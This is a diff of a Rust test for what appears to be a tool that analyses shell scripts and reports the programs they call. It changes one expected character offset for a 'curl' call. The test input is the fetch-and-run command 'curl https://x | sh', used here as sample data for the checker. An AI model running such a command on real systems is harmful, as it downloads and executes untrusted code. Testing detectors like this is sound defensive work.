@@ -61,7 +61,7 @@ fn decisions_and_records_are_as_their_schemas_say() {
     hold(&decision, &explained, "explain");
     assert_eq!(explained["sources"][0]["text"], "curl https://x | sh");
     let second = &explained["calls"][1];
-    assert_eq!((second["program"].as_str(), second["at"]["start"].as_u64()), (Some("curl"), Some(17)), "{second}");
+    assert_eq!((second["program"].as_str(), second["at"]["start"].as_u64()), (Some("curl"), Some(16)), "{second}");
     assert!(second["directory"].as_str().unwrap().ends_with("/work/x"), "{second}");
     let batch =
         place.gate(&["check", "--batch"]).write_stdin("{\"id\":\"a\",\"script\":\"ls\"}\nnonsense\n").output().unwrap();
